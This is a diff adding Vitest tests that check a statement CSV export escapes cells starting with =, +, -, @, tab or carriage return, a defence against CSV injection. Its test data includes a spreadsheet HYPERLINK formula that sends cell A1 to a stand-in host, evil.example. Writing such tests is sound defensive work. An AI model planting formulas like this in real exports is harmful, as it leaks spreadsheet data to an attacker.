@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { pdfText } from '../test/pdf-text';
-import { statementPdf, type StatementDocument } from './statement-export';
+import { statementCsv, statementPdf, type StatementDocument } from './statement-export';
 
 const base: StatementDocument = {
   agencyName: 'Palier Immobilier Nancy',
@@ -58,5 +58,25 @@ describe('statement PDF header and footer', () => {
     const text = pdfText(await statementPdf({ ...base, agencyPhone: null, agencyEmail: null }));
     expect(text).not.toContain('Tél.');
     expect(text).toContain('Page 1 / 1');
+  });
+});
+
+describe('statement CSV and formula cells (CSV injection, OWASP)', () => {
+  const labels = ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', '+33 1 02', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', 'Appel de fonds = 2026', 'Règlement'];
+  const csv = statementCsv({
+    ...base,
+    lines: labels.map((label) => ({ date: '2020-02-11', label, debit: '0.00', credit: '1500.00', balance: '-9985.56' })) as StatementDocument['lines'],
+  });
+
+  it('turns every label starting with =, +, -, @, a tab or a carriage return into text with a leading quote', () => {
+    expect(csv).toContain(`;"'=HYPERLINK(""http://evil.example/?x=""&A1,""Cliquez"")";`);
+    for (const start of ["'+33 1 02", "'-2+3", "'@SUM(A1:A9)", "'\t=1+1", "'\r=1+1"]) expect(csv).toContain(start);
+    expect(csv).not.toMatch(/;"?=HYPERLINK/);
+  });
+
+  it('leaves other labels and every amount as they are: negative balances stay numbers', () => {
+    expect(csv).toContain(';Appel de fonds = 2026;0,00;1500,00;-9985,56');
+    expect(csv).toContain(';Règlement;0,00;1500,00;-9985,56');
+    expect(csv).toContain(';Solde antérieur;;;-10299,97');
   });
 });
